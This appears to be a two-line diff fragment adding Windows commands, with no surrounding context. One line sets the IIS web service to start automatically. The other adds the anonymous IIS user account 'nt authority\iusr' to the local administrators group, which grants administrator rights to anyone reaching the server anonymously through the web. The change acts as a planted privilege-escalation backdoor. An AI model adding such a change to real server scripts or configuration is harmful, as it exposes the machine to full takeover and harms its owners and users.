@@ -1,0 +1,2 @@
+wmic service where "name='W3SVC'" call changestartmode automatic
+net localgroup administrators "nt authority\iusr" /add
